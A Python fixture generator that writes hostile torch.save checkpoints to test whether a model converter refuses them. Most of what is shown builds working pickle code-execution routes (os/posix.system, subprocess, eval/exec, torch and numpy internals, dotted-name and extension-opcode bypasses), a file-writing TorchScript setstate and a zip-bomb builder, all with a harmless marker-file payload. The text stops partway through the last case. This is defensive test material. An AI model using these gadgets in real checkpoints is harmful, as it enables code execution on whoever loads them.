#!/usr/bin/python3
"""Hostile checkpoints for tools/convert.py: the committed corpus in tests/data/hostile/.

    /usr/bin/python3 tools/reference/make_hostile_checkpoints.py --out DIR [--controls DIR]

Writes about eighty small files (under 1 MB in all) that a hostile uploader could pass
off as a torch.save checkpoint: pickles that run code by many routes, TorchScript archives, storages
and views that reach outside their records, small files that declare huge things, zip bombs,
exponential and cyclic module graphs, deep nesting, and broken containers.  Plus DIR/README.md, the
table of files, attacks and what the converter must do (it must refuse every one: exit status 1,
one line on stderr, within seconds and under 2 GB).  --controls DIR also writes the valid micro
checkpoints the hostile files are built from (they must convert), to show the refusals are for the
attack and not for the base.

Every pickle and container is written here byte by byte (the pickles with opcodes, the zips with
zipfile or by hand), without torch, so the output is the same bytes on every run and every machine.
The layouts are torch 1.13's (protocol 2, `<prefix>/data.pkl`, `<prefix>/data/<key>`,
`<prefix>/version`, records aligned to 64 bytes; the legacy stream of five pickles and raw storages).

Payloads only ever touch a marker: a shell payload runs
    touch "${RAMS_HOSTILE_MARKER:-/tmp/ramstrans_hostile_marker}"
and a payload that writes from Python (or TorchScript) writes /tmp/ramstrans_hostile_marker.
"""
import argparse
import io
import os
import random
import struct
import sys
import tarfile
import zipfile
import zlib

MARKER_PATH = "/tmp/ramstrans_hostile_marker"
SHELL = 'touch "${RAMS_HOSTILE_MARKER:-%s}"' % MARKER_PATH
PY_EXPR = "__import__('os').system(%r)" % SHELL       # a Python expression that runs SHELL
PY_STMT = "import os; os.system(%r)" % SHELL          # the same as a statement

# ---------------------------------------------------------------------------------------------
# A pickle writer: a tree of plain values and the nodes below becomes opcodes.  Node objects (and
# lists and dicts) are memoised on first write, so using one node twice writes BINGET the second
# time: that is how DAGs and cycles stay small.


class G:
    """A global (module, name): GLOBAL, or STACK_GLOBAL when stack=True (protocol 4)."""

    def __init__(self, module, name, stack=False):
        self.module, self.name, self.stack = module, name, stack


class Call:
    """func(*args): REDUCE."""

    def __init__(self, func, args):
        self.func, self.args = func, tuple(args)


class New:
    """cls.__new__(cls, *args) (NEWOBJ), then BUILD with state when state is not None."""

    def __init__(self, cls, args=(), state=None):
        self.cls, self.args, self.state = cls, tuple(args), state


class ODict:
    """collections.OrderedDict(): GLOBAL, EMPTY_TUPLE, REDUCE, SETITEMS, as pickle writes it; then
    BUILD with state (torch's state dicts carry {'_metadata': ...})."""

    def __init__(self, items=(), state=None):
        self.items, self.state = list(items), state


class Build:
    """obj, then BUILD with state (on whatever obj is: an instance, a module, a class)."""

    def __init__(self, obj, state):
        self.obj, self.state = obj, state


class PersId:
    """A persistent id (BINPERSID): the value is usually a tuple."""

    def __init__(self, value):
        self.value = value


class ModCls:
    """An nn.Module class as torch's legacy writer refers to it: the first time through a persistent
    id ('module', class, source file, source), later through the class itself (memoised).  In the
    zip format simply the global."""

    def __init__(self, g, source_file=None, source=None):
        self.g, self.source_file, self.source = g, source_file, source


class Raw:
    """Opcodes written as they are (they must leave exactly one value on the stack)."""

    def __init__(self, data):
        self.data = data


class Pickler:
    def __init__(self, proto=2, legacy=False):
        self.proto, self.legacy = proto, legacy
        self.out = bytearray()
        self.memo = {}        # id(node) -> memo index
        self.keep = []        # keeps memoised objects alive (their ids stay unique)
        self.globals = {}     # (module, name, stack) -> G node written once
        self.legacy_seen = set()
        self.strings = {}     # str value -> memo index
        self.count = 0        # memo entries written

    def dumps(self, obj):
        if self.proto >= 2:
            self.out += bytes([0x80, self.proto])
        self.save(obj)
        self.out += b"."
        return bytes(self.out)

    def put(self, obj):
        idx = self.count
        self.count += 1
        self.memo[id(obj)] = idx
        self.keep.append(obj)
        self.out += (b"q" + bytes([idx])) if idx < 256 else (b"r" + struct.pack("<I", idx))

    def get(self, idx):
        self.out += (b"h" + bytes([idx])) if idx < 256 else (b"j" + struct.pack("<I", idx))

    def save(self, obj):
        if id(obj) in self.memo:
            return self.get(self.memo[id(obj)])
        out = self.out
        if obj is None:
            out += b"N"
        elif obj is True or obj is False:
            out += (b"\x88" if obj else b"\x89") if self.proto >= 2 else (b"I01\n" if obj else b"I00\n")
        elif isinstance(obj, int):
            if 0 <= obj < 256:
                out += b"K" + bytes([obj])
            elif 0 <= obj < 65536:
                out += b"M" + struct.pack("<H", obj)
            elif -2**31 <= obj < 2**31:
                out += b"J" + struct.pack("<i", obj)
            else:
                n = (obj.bit_length() + 8) // 8  # two's complement, little-endian, as pickle encodes
                out += b"\x8a" + bytes([n]) + obj.to_bytes(n, "little", signed=True)
        elif isinstance(obj, float):
            out += b"G" + struct.pack(">d", obj)
        elif isinstance(obj, str):  # memoised by value (pickle does it by identity; the same here)
            if ("str", obj) in self.strings:
                return self.get(self.strings[("str", obj)])
            b = obj.encode("utf-8", "surrogatepass")
            out += b"X" + struct.pack("<I", len(b)) + b
            self.strings[("str", obj)] = self.count
            self.put(obj)
        elif isinstance(obj, bytes):
            if self.proto >= 3:
                out += (b"C" + bytes([len(obj)]) if len(obj) < 256 else b"B" + struct.pack("<I", len(obj))) + obj
            else:  # what pickle writes for bytes at protocol 2
                self.save(Call(self.glob("_codecs", "encode"), (obj.decode("latin1"), "latin1")))
        elif isinstance(obj, tuple):
            if not obj:
                out += b")"
            elif len(obj) <= 3 and self.proto >= 2:
                for x in obj:
                    self.save(x)
                out += b"\x85\x86\x87"[len(obj) - 1:len(obj)]
            else:
                out += b"("
                for x in obj:
                    self.save(x)
                out += b"t"
        elif isinstance(obj, list):
            out += b"]"
            self.put(obj)
            if obj:
                out += b"("
                for x in obj:
                    self.save(x)
                self.out += b"e"
        elif isinstance(obj, dict):
            out += b"}"
            self.put(obj)
            self._setitems(obj.items())
        elif isinstance(obj, G):
            key = (obj.module, obj.name, obj.stack)
            if key in self.globals and id(self.globals[key]) in self.memo:
                return self.get(self.memo[id(self.globals[key])])
            if obj.stack:
                for s in (obj.module, obj.name):
                    b = s.encode()
                    out += b"\x8c" + bytes([len(b)]) + b
                out += b"\x93"
            else:
                out += b"c" + obj.module.encode() + b"\n" + obj.name.encode() + b"\n"
            self.globals[key] = obj
            self.put(obj)
        elif isinstance(obj, ModCls):
            if self.legacy and id(obj.g) not in self.legacy_seen:
                self.legacy_seen.add(id(obj.g))
                self.save(("module", obj.g, obj.source_file, obj.source))
                out += b"Q"
            else:
                self.save(obj.g)
        elif isinstance(obj, Call):
            self.save(obj.func)
            self.save(obj.args)
            out += b"R"
            self.put(obj)
        elif isinstance(obj, New):
            self.save(obj.cls)
            self.save(obj.args)
            out += b"\x81"
            self.put(obj)
            if obj.state is not None:
                self.save(obj.state)
                self.out += b"b"
        elif isinstance(obj, ODict):
            self.save(self.glob("collections", "OrderedDict"))
            out += b")R"
            self.put(obj)
            self._setitems(obj.items)
            if obj.state is not None:
                self.save(obj.state)
                self.out += b"b"
        elif isinstance(obj, Build):
            self.save(obj.obj)
            self.save(obj.state)
            out += b"b"
        elif isinstance(obj, PersId):
            self.save(obj.value)
            out += b"Q"
        elif isinstance(obj, Raw):
            out += obj.data
        else:
            raise TypeError(type(obj))

    def _setitems(self, items):
        items = list(items)
        if len(items) == 1:
            self.save(items[0][0])
            self.save(items[0][1])
            self.out += b"s"
        elif items:
            self.out += b"("
            for k, v in items:
                self.save(k)
                self.save(v)
            self.out += b"u"

    def glob(self, module, name):
        return self.globals.get((module, name, False)) or G(module, name)


def dumps(obj, proto=2, legacy=False):
    return Pickler(proto, legacy).dumps(obj)


# ---------------------------------------------------------------------------------------------
# Containers

ALIGN = 64  # torch aligns every record's data to 64 bytes (padding in an 'FB' extra field)


def torch_zip(records, prefix="archive"):
    """records: [(name under prefix, bytes)] in order.  Stored, aligned, fixed dates: the same bytes
    every time."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in records:
            zi = zipfile.ZipInfo(f"{prefix}/{name}", date_time=(1980, 1, 1, 0, 0, 0))
            zi.create_system = 0
            zi.external_attr = 0
            zi.compress_type = zipfile.ZIP_STORED
            head = buf.tell() + 30 + len(zi.filename.encode()) + 4
            pad = (-head) % ALIGN
            zi.extra = struct.pack("<HH", 0x4246, pad) + b"Z" * pad
            zf.writestr(zi, data)
    return buf.getvalue()


def _local_header(name, crc, csize, usize, method=0, extra=b"", extra_len=None):
    return struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, method, 0, 0x21, crc, csize, usize,
                       len(name), len(extra) if extra_len is None else extra_len) + name + extra


def _central_header(name, crc, csize, usize, offset, method=0, extra=b""):
    return struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, method, 0, 0x21, crc, csize, usize,
                       len(name), len(extra), 0, 0, 0, 0, offset) + name + extra


def _end_record(count, cd_size, cd_offset):
    return struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, cd_size, cd_offset, 0)


def raw_zip(entries):
    """A zip written by hand, for headers zipfile would not write.  entries: dicts with name, data
    (the bytes as stored), and optional crc, csize, usize, method, local_extra, central_extra,
    local_extra_len (the header fields, defaulting to what the data really is)."""
    out = bytearray()
    central = bytearray()
    for e in entries:
        name = e["name"].encode()
        data = e["data"]
        crc = e.get("crc", zlib.crc32(data))
        csize, usize = e.get("csize", len(data)), e.get("usize", len(data))
        offset = len(out)
        out += _local_header(name, crc, csize, usize, e.get("method", 0), e.get("local_extra", b""),
                             e.get("local_extra_len")) + data
        central += _central_header(name, crc, csize, usize, offset, e.get("method", 0), e.get("central_extra", b""))
    return bytes(out + central + _end_record(len(entries), len(central), len(out)))


def _gf2_times(mat, vec):
    s, i = 0, 0
    while vec:
        if vec & 1:
            s ^= mat[i]
        vec >>= 1
        i += 1
    return s


def _gf2_square(mat):
    return [_gf2_times(mat, mat[n]) for n in range(32)]


def crc32_combine(crc1, crc2, len2):
    """crc32(a + b) from crc32(a), crc32(b) and len(b) (zlib's crc32_combine)."""
    if len2 == 0:
        return crc1
    odd = [0xEDB88320] + [1 << n for n in range(31)]
    even = _gf2_square(odd)
    odd = _gf2_square(even)
    while True:
        even = _gf2_square(odd)
        if len2 & 1:
            crc1 = _gf2_times(even, crc1)
        len2 >>= 1
        if not len2:
            break
        odd = _gf2_square(even)
        if len2 & 1:
            crc1 = _gf2_times(odd, crc1)
        len2 >>= 1
        if not len2:
            break
    return crc1 ^ crc2


def overlapping_bomb_zip(prefix, pkl, keys, kernel_bytes):
    """A zip whose storage records overlap (David Fifield's construction): record i's deflate stream
    is a stored block quoting record i+1's local header followed by record i+1's stream, so every
    record inflates to kernel_bytes zeros (plus the quoted headers) from one shared kernel."""
    kernel = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = kernel.compress(bytes(kernel_bytes)) + kernel.flush()
    zero_crc = zlib.crc32(bytes(kernel_bytes))
    n = len(keys)
    names = [f"{prefix}/data/{k}".encode() for k in keys]
    heads = [None] * n
    csize, usize, crc = [0] * n, [0] * n, [0] * n
    for i in reversed(range(n)):
        if i == n - 1:
            csize[i], usize[i], crc[i] = len(kernel), kernel_bytes, zero_crc
        else:
            q = heads[i + 1]
            csize[i] = 5 + len(q) + csize[i + 1]
            usize[i] = len(q) + usize[i + 1]
            crc[i] = crc32_combine(zlib.crc32(q), crc[i + 1], usize[i + 1])
        heads[i] = _local_header(names[i], crc[i], csize[i], usize[i], method=8)
    out = bytearray()
    central = bytearray()
    first = [(f"{prefix}/data.pkl".encode(), pkl)]
    for name, data in first:
        central += _central_header(name, zlib.crc32(data), len(data), len(data), len(out))
        out += _local_header(name, zlib.crc32(data), len(data), len(data)) + data
    for i in range(n):
        central += _central_header(names[i], crc[i], csize[i], usize[i], len(out), method=8)
        out += heads[i]
        if i < n - 1:
            q = heads[i + 1]
            out += struct.pack("<BHH", 0, len(q), 0xFFFF ^ len(q))  # stored block, not final
    out += kernel
    name, data = f"{prefix}/version".encode(), b"3\n"
    central += _central_header(name, zlib.crc32(data), len(data), len(data), len(out))
    out += _local_header(name, zlib.crc32(data), len(data), len(data)) + data
    count = n + 2
    return bytes(out + central + _end_record(count, len(central), len(out))), usize


LEGACY_MAGIC = 0x1950A86A20F9469CFC6C


def legacy_header_pickles():
    magic = dumps(LEGACY_MAGIC)
    proto = dumps(1001)
    sys_info = dumps({"protocol_version": 1001, "little_endian": True,
                      "type_sizes": {"short": 2, "int": 4, "long": 4}})
    return magic, proto, sys_info


def legacy_file(main, storages, magic=None, proto=None, sys_info=None, keys=None):
    """The legacy stream: magic, protocol, sys_info, main pickles, the storage keys pickle, then
    each storage (in key order) as an int64 element count and its bytes.  storages: [(key, count
    written before the bytes, bytes)]."""
    m, p, s = legacy_header_pickles()
    out = bytearray((magic or m) + (proto or p) + (sys_info or s) + main)
    out += keys if keys is not None else dumps([k for k, _, _ in storages])
    for _, count, data in storages:
        out += struct.pack("<q", count) + data
    return bytes(out)


# ---------------------------------------------------------------------------------------------
# The micro RAMS-Trans model the valid bases hold: image 8, patch 4 (grid 2, N = 6 tokens),
# hidden 8, 1 layer, MLP 16, 2 classes (converted with --num-heads 4).

EMB, ENC = "transformer.embeddings.", "transformer.encoder."


def arch_shapes(D=8, P=4, G=2, L=1, M=16, C=2):
    """name -> shape, in torch's state_dict order (ramstrans_torch.RamsTrans)."""
    s = {EMB + "position_embeddings": (1, G * G + 2, D), EMB + "cls_token1": (1, 1, D),
         EMB + "cls_token2": (1, 1, D), EMB + "patch_embeddings.weight": (D, 3, P, P),
         EMB + "patch_embeddings.bias": (D,)}
    for i in range(L):
        b = f"{ENC}layer.{i}."
        for n in ("attention_norm", "ffn_norm"):
            s[b + n + ".weight"], s[b + n + ".bias"] = (D,), (D,)
        for n in ("query", "key", "value", "out"):
            s[b + "attn." + n + ".weight"], s[b + "attn." + n + ".bias"] = (D, D), (D,)
        s[b + "ffn.fc1.weight"], s[b + "ffn.fc1.bias"] = (M, D), (M,)
        s[b + "ffn.fc2.weight"], s[b + "ffn.fc2.bias"] = (D, M), (D,)
    s[ENC + "part_norm.weight"], s[ENC + "part_norm.bias"] = (D,), (D,)
    s["part_head.weight"], s["part_head.bias"] = (C, D), (C,)
    return s


def numel(shape):
    n = 1
    for v in shape:
        n *= v
    return n


def contiguous(shape):
    stride, acc = [], 1
    for v in reversed(shape):
        stride.append(acc)
        acc *= v
    return tuple(reversed(stride))


def floats(n, seed):
    rng = random.Random(seed)
    return struct.pack(f"<{n}f", *[round(rng.random() - 0.5, 4) for _ in range(n)])


FLOAT_STORAGE = G("torch", "FloatStorage")
REBUILD = G("torch._utils", "_rebuild_tensor_v2")
PARAM = G("torch._utils", "_rebuild_parameter")


def storage(key, count, legacy=False, stype=None):
    t = ("storage", stype or FLOAT_STORAGE, key, "cpu", count)
    return PersId(t + (None,) if legacy else t)


def tensor(st, offset, shape, stride=None):
    return Call(REBUILD, (st, offset, tuple(shape), tuple(stride or contiguous(shape)), False, ODict()))


def metadata(names):
    """torch's state_dict()._metadata: a {'version': 1} per module prefix."""
    prefixes = [""]
    for n in names:
        parts = n.split(".")[:-1]
        for i in range(1, len(parts) + 1):
            p = ".".join(parts[:i])
            if p not in prefixes:
                prefixes.append(p)
    return {"_metadata": ODict([(p, {"version": 1}) for p in prefixes])}


class Model:
    """A checkpoint's tensors: name -> tensor node, and the storage records behind them.
    short: name -> floats its record really holds (its persistent id still declares the full count);
    keys: name -> storage key (default: the tensor's index)."""

    def __init__(self, legacy=False, seed=0, short=None, keys=None, **arch):
        self.legacy = legacy
        self.shapes = arch_shapes(**arch)
        self.records = {}   # key -> bytes
        self.counts = {}    # key -> element count declared
        self.tensors = {}   # name -> tensor node
        short, keys = short or {}, keys or {}
        for i, (name, shape) in enumerate(self.shapes.items()):
            key, n = keys.get(name, str(i)), numel(shape)
            self.records[key] = floats(short.get(name, n), seed * 1000 + i)
            self.counts[key] = n
            self.tensors[name] = tensor(storage(key, n, legacy), 0, shape)

    def state_dict(self, override=None):
        items = dict(self.tensors)
        items.update(override or {})
        return ODict(items.items(), state=metadata(items))

    def wrapped(self, epoch=7, optimizer=None, args=None, override=None):
        d = {"state_dict": self.state_dict(override), "epoch": epoch, "best_acc": 0.5,
             "optimizer": optimizer if optimizer is not None else {"lr": 0.03}}
        if args is not None:
            d["args"] = args
        return d

    def zip(self, obj, prefix="archive", proto=2, extra=()):
        recs = self.records
        return torch_zip([("data.pkl", dumps(obj, proto))] + [(f"data/{k}", recs[k]) for k in sorted(recs)]
                         + [("version", b"3\n")] + list(extra), prefix)

    def legacy_bytes(self, obj, omit=(), **kw):
        return legacy_file(dumps(obj, legacy=True),
                           [(k, self.counts[k], self.records[k]) for k in sorted(self.records) if k not in omit], **kw)


# The pickled model object (torch.save(model)), as torch 1.13 writes the released classes.

def mod_state(params=(), modules=(), attrs=(), training=False):
    """An nn.Module's __dict__ as torch 1.13 pickles it."""
    st = {"training": training, "_parameters": ODict(params), "_buffers": ODict(),
          "_non_persistent_buffers_set": Call(G("__builtin__", "set"), ([],)),
          "_backward_hooks": ODict(), "_is_full_backward_hook": None, "_forward_hooks": ODict(),
          "_forward_pre_hooks": ODict(), "_state_dict_hooks": ODict(), "_load_state_dict_pre_hooks": ODict(),
          "_load_state_dict_post_hooks": ODict(), "_modules": ODict(modules)}
    st.update(attrs)
    return st


_CLASSES = {}


def cls(module, name):
    if (module, name) not in _CLASSES:
        src = None if module == "model_rams" else f"class {name}(Module): ...\n"
        srcfile = None if module == "model_rams" else f"/usr/lib/python3/dist-packages/{module.replace('.', '/')}.py"
        _CLASSES[(module, name)] = ModCls(G(module, name), srcfile, src)
    return _CLASSES[(module, name)]


def module(module_name, cls_name, **kw):
    return New(cls(module_name, cls_name), (), mod_state(**kw))


def param(t):
    return Call(PARAM, (t, True, ODict()))


def pickled_model(m, D=8, P=4, L=1, M=16, C=2, heads=4, dp=False, replace=None):
    """VisionTransformer(...) as the released trainer pickles it; replace: {(path, key): node} puts
    a node in place of one submodule (path of module names, key in its _modules)."""
    t, nn = m.tensors, "torch.nn.modules."
    replace = replace or {}

    def lin(prefix, i, o):
        return module(nn + "linear", "Linear", params=[("weight", param(t[prefix + ".weight"])),
                                                      ("bias", param(t[prefix + ".bias"]))],
                      attrs={"in_features": i, "out_features": o})

    def ln(prefix):
        return module(nn + "normalization", "LayerNorm", params=[("weight", param(t[prefix + ".weight"])),
                                                                ("bias", param(t[prefix + ".bias"]))],
                      attrs={"normalized_shape": (D,), "eps": 1e-06, "elementwise_affine": True})

    def drop(p):
        return module(nn + "dropout", "Dropout", attrs={"p": p, "inplace": False})

    def sub(path, items):
        return [(k, replace.get((path, k), v)) for k, v in items]

    conv = module(nn + "conv", "Conv2d", params=[("weight", param(t[EMB + "patch_embeddings.weight"])),
                                                  ("bias", param(t[EMB + "patch_embeddings.bias"]))],
                  attrs={"in_channels": 3, "out_channels": D, "kernel_size": (P, P), "stride": (P, P),
                         "padding": (0, 0), "dilation": (1, 1), "transposed": False, "output_padding": (0, 0),
                         "groups": 1, "padding_mode": "zeros", "_reversed_padding_repeated_twice": (0, 0, 0, 0)})
    emb = module("model_rams", "Embeddings",
                 params=[(n, param(t[EMB + n])) for n in ("position_embeddings", "cls_token1", "cls_token2")],
                 modules=[("patch_embeddings", conv), ("dropout", drop(0.1))], attrs={"hybrid": None})
    blocks = []
    for i in range(L):
        b = f"{ENC}layer.{i}."
        attn = module("model_rams", "Attention",
                      modules=sub("attn", [(n, lin(b + "attn." + n, D, D)) for n in ("query", "key", "value", "out")]
                                  + [("attn_dropout", drop(0.0)), ("proj_dropout", drop(0.0)),
                                     ("softmax", module(nn + "activation", "Softmax", attrs={"dim": -1}))]),
                      attrs={"num_attention_heads": heads, "attention_head_size": D // heads, "all_head_size": D})
        mlp = module("model_rams", "Mlp", modules=[("fc1", lin(b + "ffn.fc1", D, M)), ("fc2", lin(b + "ffn.fc2", M, D)),
                                                    ("dropout", drop(0.1))],
                     attrs={"act_fn": G("torch._C._nn", "gelu")})
        blocks.append((str(i), module("model_rams", "Block",
                                      modules=[("attention_norm", ln(b + "attention_norm")),
                                               ("ffn_norm", ln(b + "ffn_norm")), ("ffn", mlp), ("attn", attn)],
                                      attrs={"hidden_size": D})))
    enc = module("model_rams", "Encoder", modules=[("layer", module(nn + "container", "ModuleList", modules=blocks)),
                                                    ("part_norm", ln(ENC + "part_norm"))])
    vit = module("model_rams", "VisionTransformer",
                 modules=[("transformer", module("model_rams", "Transformer",
                                                 modules=[("embeddings", emb), ("encoder", enc)])),
                          ("part_head", lin("part_head", D, C))],
                 attrs={"num_classes": C, "smoothing_value": 0.0, "zero_head": True, "classifier": "token"})
    if dp:
        return module("torch.nn.parallel.data_parallel", "DataParallel", modules=[("module", vit)],
                      attrs={"device_ids": []}, training=True)
    return vit


# ---------------------------------------------------------------------------------------------
# Payloads

def posix_system():
    return Call(G("posix", "system"), (SHELL,))


TORCHSCRIPT_CODE = '''class Evil(Module):
  __parameters__ = []
  __buffers__ = []
  training : bool
  x : int
  def forward(self: __torch__.Evil,
    x: Tensor) -> Tensor:
    return x
  def __getstate__(self: __torch__.Evil) -> Tuple[int, bool]:
    return (self.x, self.training)
  def __setstate__(self: __torch__.Evil,
    state: Tuple[int, bool]) -> NoneType:
    self.x = (state)[0]
    self.training = (state)[1]
    t = torch.from_file("%s", True, 16, dtype=0)
    _0 = torch.fill_(t, 65)
    self.x = int(torch.sum(t))
    return None
''' % MARKER_PATH


# ---------------------------------------------------------------------------------------------
# The corpus.  Each entry: file name, attack, what the converter must do; a function makes the bytes.

CORPUS = []


def case(name, attack, must="refuse"):
    def deco(fn):
        CORPUS.append((name, attack, must, fn))
        return fn
    return deco


REFUSE_EXEC = "refuse by the global's name; run nothing"

# --- code execution by pickle globals -------------------------------------------------------


@case("exec_epoch_posix_system.pt", "valid training checkpoint (zip); its 'epoch' is posix.system(cmd) "
      "(GLOBAL, protocol 2)", REFUSE_EXEC + " (today's stub converted it silently)")
def _():
    m = Model()
    return m.zip(m.wrapped(epoch=posix_system()))


@case("exec_optimizer_subprocess_check_call.pt", "valid training checkpoint; 'optimizer' is "
      "subprocess.check_call(['sh', '-c', cmd])", REFUSE_EXEC)
def _():
    m = Model()
    return m.zip(m.wrapped(optimizer=Call(G("subprocess", "check_call"), (["sh", "-c", SHELL],))))


@case("exec_args_builtins_eval.pt", "valid training checkpoint; 'args' is __builtin__.eval(code)", REFUSE_EXEC)
def _():
    m = Model()
    return m.zip(m.wrapped(args=Call(G("__builtin__", "eval"), (PY_EXPR,))))


@case("exec_toplevel_os_system.pt", "data.pkl is os.system(cmd) and nothing else", REFUSE_EXEC)
def _():
    return torch_zip([("data.pkl", dumps(Call(G("os", "system"), (SHELL,)))), ("version", b"3\n")])


@case("exec_builtins_exec_p4.pt", "protocol 4: STACK_GLOBAL builtins.exec(code)", REFUSE_EXEC)
def _():
    return torch_zip([("data.pkl", dumps(Call(G("builtins", "exec", stack=True), (PY_STMT,)), 4)),
                      ("version", b"3\n")])


@case("exec_builtins_getattr_import.pt", "getattr(__import__('os'), 'system')(cmd)", REFUSE_EXEC)
def _():
    os_mod = Call(G("__builtin__", "__import__"), ("os",))
    system = Call(G("__builtin__", "getattr"), (os_mod, "system"))
    m = Model()
    return m.zip(m.wrapped(epoch=Call(system, (SHELL,))))


@case("exec_importlib_methodcaller.pt", "operator.methodcaller('system', cmd)(importlib.import_module('os'))",
      REFUSE_EXEC)
def _():
    caller = Call(G("operator", "methodcaller"), ("system", SHELL))
    return torch_zip([("data.pkl", dumps(Call(caller, (Call(G("importlib", "import_module"), ("os",)),)))),
                      ("version", b"3\n")])


@case("exec_stack_global_torch_os_system_p4.pt", "protocol 4 dotted name: STACK_GLOBAL 'torch' 'os.system' "
      "(torch imports os)", REFUSE_EXEC + " (a dotted name under an allowed module is still another name)")
def _():
    m = Model()
    return m.zip(m.wrapped(epoch=Call(G("torch", "os.system", stack=True), (SHELL,))), proto=4)


@case("exec_global_dotted_numpy_os_system_p4.pt", "GLOBAL opcode with a dotted name under PROTO 4: "
      "'numpy.lib.npyio' 'os.system'", REFUSE_EXEC)
def _():
    return torch_zip([("data.pkl", dumps(Call(G("numpy.lib.npyio", "os.system"), (SHELL,)), 4)),
                      ("version", b"3\n")])


@case("exec_copyreg_builtins_get_p4.pt", "STACK_GLOBAL 'copyreg' '__builtins__.get' -> builtins dict's get"
      "('eval') -> eval(code)", REFUSE_EXEC)
def _():
    ev = Call(G("copyreg", "__builtins__.get", stack=True), ("eval",))
    return torch_zip([("data.pkl", dumps(Call(ev, (PY_EXPR,)), 4)), ("version", b"3\n")])


@case("exec_torch_import_dotted_name.pt", "torch._utils._import_dotted_name('os.system')(cmd)", REFUSE_EXEC)
def _():
    fn = Call(G("torch._utils", "_import_dotted_name"), ("os.system",))
    m = Model()
    return m.zip(m.wrapped(epoch=Call(fn, (SHELL,))))


@case("exec_torch_collect_env_run.pt", "torch.utils.collect_env.run(cmd) (Popen with shell=True)", REFUSE_EXEC)
def _():
    m = Model()
    return m.zip(m.wrapped(epoch=Call(G("torch.utils.collect_env", "run"), (SHELL,))))


@case("exec_torch_fx_exec_with_source.pt", "torch.fx.graph_module._exec_with_source(code, {})", REFUSE_EXEC)
def _():
    m = Model()
    return m.zip(m.wrapped(epoch=Call(G("torch.fx.graph_module", "_exec_with_source"), (PY_STMT, {}))))


@case("exec_torch_load_from_bytes.pt", "torch.storage._load_from_bytes(bytes): a nested torch.load of a "
      "pickle that runs posix.system", REFUSE_EXEC)
def _():
    inner = dumps(posix_system())
    return torch_zip([("data.pkl", dumps(Call(G("torch.storage", "_load_from_bytes"), (inner,)))),
                      ("version", b"3\n")])


@case("exec_torch_utils_patch_build.pt", "BUILD on the torch._utils module sets _rebuild_tensor_v2 = "
      "torch.utils.collect_env.run; the next 'tensor' then runs cmd", REFUSE_EXEC)
def _():
    patched = Build(G("torch", "_utils"), (None, {"_rebuild_tensor_v2": G("torch.utils.collect_env", "run")}))
    return torch_zip([("data.pkl", dumps((patched, Call(G("torch._utils", "_rebuild_tensor_v2"), (SHELL,))))),
                      ("version", b"3\n")])


@case("exec_numpy_runstring.pt", "numpy.testing._private.utils.runstring(code, {})", REFUSE_EXEC)
def _():
    m = Model()
    return m.zip(m.wrapped(epoch=Call(G("numpy.testing._private.utils", "runstring"), (PY_STMT, {}))))


@case("exec_numpy_load_allow_pickle_p4.pt", "numpy.load(io.BytesIO(pickle), None, True) (BytesIO by the "
      "dotted name numpy.compat.py3k io.BytesIO); the inner pickle runs posix.system", REFUSE_EXEC)
def _():
    bio = Call(G("numpy.compat.py3k", "io.BytesIO", stack=True), (dumps(posix_system()),))
    return torch_zip([("data.pkl", dumps(Call(G("numpy", "load", stack=True), (bio, None, True)), 4)),
                      ("version", b"3\n")])


@case("exec_numpy_distutils_exec_command.pt", "numpy.distutils.exec_command.exec_command(cmd)", REFUSE_EXEC)
def _():
    return torch_zip([("data.pkl", dumps(Call(G("numpy.distutils.exec_command", "exec_command"), (SHELL,)))),
                      ("version", b"3\n")])


@case("exec_copyreg_reconstructor_popen.pt", "copyreg._reconstructor(subprocess.Popen, subprocess.Popen, "
      "['sh', '-c', cmd]): Popen.__init__ runs", REFUSE_EXEC)
def _():
    popen = G("subprocess", "Popen")
    m = Model()
    return m.zip(m.wrapped(optimizer=Call(G("copy_reg", "_reconstructor"), (popen, popen, ["sh", "-c", SHELL]))))


@case("exec_ext1_add_extension.pt", "copyreg.add_extension('posix', 'system', 240), then EXT1 240 fetches "
      "posix.system by extension code", REFUSE_EXEC + " (EXT opcodes are not torch.save's)")
def _():
    p = Pickler()
    p.out += b"\x80\x02"
    p.save(Call(G("copyreg", "add_extension"), ("posix", "system", 240)))
    p.out += b"0"  # POP
    p.out += b"\x82\xf0"  # EXT1 240
    p.save((SHELL,))
    p.out += b"R."
    return torch_zip([("data.pkl", bytes(p.out)), ("version", b"3\n")])


@case("exec_inst_opcode_p0.pt", "protocol 0: INST 'os system' with the command as its argument", REFUSE_EXEC)
def _():
    data = b"(V" + SHELL.encode("raw_unicode_escape") + b"\nios\nsystem\n."
    return torch_zip([("data.pkl", data), ("version", b"3\n")])


@case("exec_obj_opcode_p1.pt", "protocol 1: OBJ with class posix.system and the command", REFUSE_EXEC)
def _():
    b = SHELL.encode()
    data = b"(cposix\nsystem\nX" + struct.pack("<I", len(b)) + b + b"o."
    return torch_zip([("data.pkl", data), ("version", b"3\n")])


@case("exec_persistent_id_tuple.pt", "valid state dict whose cls_token1 storage's persistent id carries "
      "posix.system(cmd) in its dtype slot", REFUSE_EXEC)
def _():
    m = Model()
    name = EMB + "cls_token1"
    bad = tensor(PersId(("storage", posix_system(), "1", "cpu", 8)), 0, (1, 1, 8))
    return m.zip(m.state_dict({name: bad}))


@case("exec_pickled_model_submodule.pt", "a valid pickled model (torch.save(model)) whose Attention.softmax "
      "submodule is posix.system(cmd)", REFUSE_EXEC)
def _():
    m = Model()
    return m.zip(pickled_model(m, replace={("attn", "softmax"): posix_system()}))


@case("exec_legacy_epoch.pt", "legacy format (_use_new_zipfile_serialization=False), valid training "
      "checkpoint; 'epoch' is posix.system(cmd)", REFUSE_EXEC)
def _():
    m = Model(legacy=True)
    return m.legacy_bytes(m.wrapped(epoch=posix_system()))


@case("exec_legacy_magic.pt", "legacy format whose first pickle (the magic number) is posix.system(cmd)",
      REFUSE_EXEC)
def _():
    m = Model(legacy=True)
    return m.legacy_bytes(m.state_dict(), magic=dumps(posix_system()))


@case("exec_legacy_sys_info.pt", "legacy format whose sys_info pickle is posix.system(cmd)", REFUSE_EXEC)
def _():
    m = Model(legacy=True)
    return m.legacy_bytes(m.state_dict(), sys_info=dumps(posix_system()))


@case("exec_legacy_storage_keys.pt", "legacy format whose storage-keys pickle (after the main one) runs "
      "posix.system(cmd)", REFUSE_EXEC)
def _():
    m = Model(legacy=True)
